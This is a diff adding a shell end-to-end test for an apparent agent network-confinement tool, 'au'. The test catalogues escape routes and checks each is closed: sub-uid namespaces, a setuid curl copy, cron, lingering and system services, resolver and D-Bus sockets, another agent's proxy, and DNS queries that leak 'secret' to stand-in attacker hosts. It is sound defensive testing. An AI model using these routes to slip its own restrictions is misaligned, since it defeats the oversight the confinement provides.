@@ -1,0 +1,194 @@
+#!/bin/sh
+# What other users' rights, services and sockets give an agent is no way out either, or au says plainly that it is one.
+# machines: bookworm trixie
+# machines by hand: true
+# timeout: 2700
+. /opt/e2e/lib.sh
+. /opt/e2e/tests/internet/up.sh
+internet=/opt/e2e/tests/internet
+ways=$internet/ways.py
+secret='https://203.0.113.66/'
+ok as alice au new -y
+ok as alice au new -y -a other
+ok as alice au new -y -a wide --allow userns --allow setuid
+ok as alice au new -y -a loose --allow resolver --allow sysbus --allow i386 --allow services
+ok usermod --add-subuids 300000-365535 --add-subgids 300000-365535 wide
+internet_up
+uid=$(id -u agent)
+cp /usr/bin/curl /usr/local/bin/helper
+chmod 4755 /usr/local/bin/helper
+other() { as alice au run -a other -- "$@"; }
+wide() { as alice au run -a wide -- "$@"; }
+loose() { as alice au run -a loose -- "$@"; }
+
+# leaves COMMAND…: packets leave the machine, so that it is a way out.
+leaves() {
+	before=$(on_wire)
+	e2e_run "$@"
+	sleep 0.2
+	[ "$(on_wire)" -gt "$before" ] || fail "nothing left the machine without restriction, so that this would show nothing"
+}
+# as_sub_uid WAY: the agent wide takes a way under one of its sub-uids.
+as_sub_uid() { wide unshare -U --map-users=300000,0,1000 --map-groups=300000,0,1000 --setuid 5 --setgid 5 python3 $ways "$1"; }
+
+# held_open SECONDS: the agent holds two connections, over IPv4 and IPv6, and sends over both all the time.
+cat >/run/internet/hold.py <<'PYTHON'
+import os, socket, sys, time
+held = [socket.create_connection((h, 9000), 20) for h in ("203.0.113.66", "2001:db8:2::66")]
+out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+out.connect(("203.0.113.66", 443))
+# One that is closed with much still to send: the other side does not read.
+orphan = socket.create_connection(("203.0.113.66", 9001), 20)
+orphan.setblocking(False)
+try:
+    while True: orphan.send(b"x" * 65536)
+except BlockingIOError: pass
+orphan.close()
+print("held", flush=True)
+for _ in range(int(sys.argv[1]) * 10):
+    for s in held + [out]:
+        try: s.send(b"a secret")
+        except OSError as err: print(err, flush=True)
+    time.sleep(0.1)
+PYTHON
+chmod 755 /run/internet /run/internet/hold.py
+
+# Somebody at the attacker's who reads on port 9000, and on 9001 not before /run/internet/read is there; what came there is counted.
+cat >/run/internet/sink.py <<'PYTHON'
+import os, socket, threading, time
+def read(s, wait):
+    while wait and not os.path.exists("/run/internet/read"): time.sleep(0.05)
+    total = 0
+    try:
+        while data := s.recv(65536): total += len(data)
+    except OSError: pass
+    if wait:
+        with open("/run/internet/orphaned", "a") as file: file.write(f"{total}\n")
+def serve(port, wait):
+    listener = socket.create_server(("::", port), family=socket.AF_INET6, dualstack_ipv6=True)
+    while True: threading.Thread(target=read, args=(listener.accept()[0], wait)).start()
+threading.Thread(target=serve, args=(9000, False)).start()
+serve(9001, True)
+PYTHON
+(exec ip netns exec internet setsid python3 /run/internet/sink.py >/run/internet/sink.log 2>&1) &
+soon sh -c 'ip netns exec internet ss -Hltn | grep -q :9001'
+
+# cron_way: cron takes two ways as the agent.
+cron_way() {
+	printf '* * * * * python3 %s tcp >/tmp/cron.out 2>&1; python3 %s quic-6\n' $ways $ways | crontab -u agent -
+	systemctl restart cron.service
+	sleep 62
+	crontab -u agent -r
+}
+
+promise="without restriction each of these is a way out"
+leaves as_sub_uid tcp
+leaves as_sub_uid quic-6
+leaves wide /usr/local/bin/helper -sS --max-time 5 -k $secret
+usermod -e '' agent
+leaves cron_way
+loginctl enable-linger agent
+soon test -S "/run/user/$uid/bus"
+user_service() { runuser -u agent -- env XDG_RUNTIME_DIR="/run/user/$uid" systemd-run --user --wait --quiet python3 $ways "$1"; }
+leaves user_service tcp
+leaves systemd-run --quiet --wait --uid=agent python3 $ways tcp-6
+python3 $internet/broker.py /run/systemd/resolve/io.systemd.Resolve /run/nscd/socket /run/avahi-daemon/socket &
+soon test -S /run/avahi-daemon/socket
+for path in /run/systemd/resolve/io.systemd.Resolve /run/nscd/socket /run/avahi-daemon/socket; do
+	leaves loose python3 $internet/broker.py --ask $path secret
+done
+ok loose busctl --system --no-pager list
+says org.freedesktop.systemd1
+
+promise="a switch that leads round the rules is named as they go in, and in the status"
+ok as alice au net restrict -a loose --allow allowed.test
+for word in resolver sysbus i386 services; do complains "au: warning: the agent has --allow $word, and these rules do not hold for it: "; done
+ok as alice au net status -a loose
+for word in resolver sysbus i386 services; do complains "au: warning: the agent has --allow $word, and these rules do not hold for it: "; done
+ok as alice au net off -a loose
+
+for backend in nft iptables; do
+	promise="with $backend: connections from before are cut, and what a closed one still had to send is lost"
+	as alice au run -- python3 /run/internet/hold.py 8 >/run/internet/held 2>&1 &
+	holder=$!
+	soon grep -q held /run/internet/held
+	before=$(on_wire)
+	sleep 0.5
+	[ "$(on_wire)" -gt "$before" ] || fail "the agent's connections send nothing"
+	ok as alice au net restrict --backend $backend --allow allowed.test
+	says "Ended"
+	: >/run/internet/read
+	stays sleep 3
+	grep -q 'Connection\|Broken\|not permitted' /run/internet/held || fail "the agent was not told: $(cat /run/internet/held)"
+	wait $holder
+	rm -f /run/internet/read
+
+	ok as alice au net restrict -a wide --backend $backend --allow allowed.test
+	complains "au: warning: the agent has --allow setuid, and these rules do not hold for it: "
+	promise="with $backend: sub-uids are no way out"
+	for way in tcp tcp-6 quic quic-6 dns-6; do
+		stays as_sub_uid $way
+		says_not INTERNET
+	done
+	promise="with $backend: sub-uids given later are none either, seconds after"
+	usermod --add-subuids 500000-565535 wide
+	sleep 4
+	stays wide unshare -U --map-users=500000,0,1000 --map-groups=300000,0,1000 --setuid 5 --setgid 5 python3 $ways quic-6
+	[ "$e2e_status" = 0 ] || fail "nothing was tried"
+	usermod --del-subuids 500000-565535 wide
+
+	promise="with $backend: a set-uid helper's packets stay where the slice's layer holds, and where it cannot, au says so"
+	if as alice au net status -a wide --json 2>/dev/null | jq -e '.layers[] | select(.name == "slice") | .up' >"$e2e/slice"; then
+		stays wide /usr/local/bin/helper -sS --max-time 10 -k $secret
+		stays wide /usr/local/bin/helper -sS --max-time 10 -k 'https://[2001:db8:2::66]/'
+	else
+		ok as alice au net status -a wide
+		complains "the second layer, the slice's filter, does not hold: "
+	fi
+
+	promise="with $backend: cron, a lingering service and a system service under the agent's name are none either"
+	stays cron_way
+	grep -q error: /tmp/cron.out || grep -q answered /tmp/cron.out || fail "cron ran nothing"
+	stays user_service tcp
+	stays user_service quic-6
+	stays systemd-run --quiet --wait --uid=agent python3 $ways tcp-6
+	stays systemd-run --quiet --wait --uid=agent --slice=system.slice python3 $ways quic
+
+	promise="with $backend: nobody resolves names for the agent"
+	for path in /run/systemd/resolve/io.systemd.Resolve /run/nscd/socket /run/avahi-daemon/socket; do
+		stays agent python3 $internet/broker.py --ask $path secret
+		[ "$e2e_status" != 0 ] || fail "the agent reached $path"
+		# In namespaces of its own an agent may take away what it mounted itself, and nothing else.
+		# shellcheck disable=SC2016
+		stays wide unshare -Urm sh -c 'umount "$1"; umount "${1%/*}"; umount /run; mkdir /tmp/r; mount --bind /run /tmp/r; mount --rbind /run /tmp/r
+			umount -l "/tmp/r${1#/run}"; python3 '$internet'/broker.py --ask "$1" secret || python3 '$internet'/broker.py --ask "/tmp/r${1#/run}" secret' sh $path
+		[ "$e2e_status" != 0 ] || fail "the agent reached $path in namespaces of its own"
+	done
+	stays agent busctl --system --no-pager list
+	[ "$e2e_status" != 0 ] || fail "the agent speaks to the system's bus"
+
+	promise="with $backend: another agent's daemon serves that agent alone"
+	ok as alice au net restrict -a other --backend $backend --allow attacker.test
+	proxy=$(sed -n 's/^proxy-port = //p' /etc/au/net/other.toml) dns=$(sed -n 's/^dns-port = //p' /etc/au/net/other.toml)
+	leaves other curl -sS --max-time 20 -x "http://127.0.0.1:$proxy" https://attacker.test/
+	[ "$e2e_status" = 0 ] || fail "the other agent does not reach what it may"
+	for host in 127.0.0.1 '[::1]'; do
+		stays agent curl -sS --max-time 5 -x "http://$host:$proxy" https://attacker.test/
+		[ "$e2e_status" != 0 ] || fail "the agent got out by the other's daemon"
+		stays agent curl -sS --max-time 5 -x "http://$host:$proxy" http://attacker.test/
+		says_not INTERNET
+		stays agent curl -sS --max-time 5 --connect-to "attacker.test:443:$host:$proxy" https://attacker.test/
+		[ "$e2e_status" != 0 ] || fail "the agent got out by the other's daemon"
+	done
+	: >/run/internet/dns.log
+	stays agent dig +time=2 +tries=1 -p "$dns" @127.0.0.1 secret.attacker.test
+	stays agent dig +time=2 +tries=1 +tcp -p "$dns" @::1 secret.attacker.test
+	promise="with $backend: nor an agent that is not restricted"
+	e2e_run loose dig +time=2 +tries=1 -p "$dns" @127.0.0.1 secret.attacker.test
+	stays loose curl -sS --max-time 5 -x "http://127.0.0.1:$proxy" https://attacker.test/
+	[ "$e2e_status" != 0 ] || fail "a stranger used the agent's daemon"
+	! grep secret /run/internet/dns.log || fail "a name left the machine"
+	ok as alice au net off -a other
+	ok as alice au net off -a wide
+	ok as alice au net off
+done
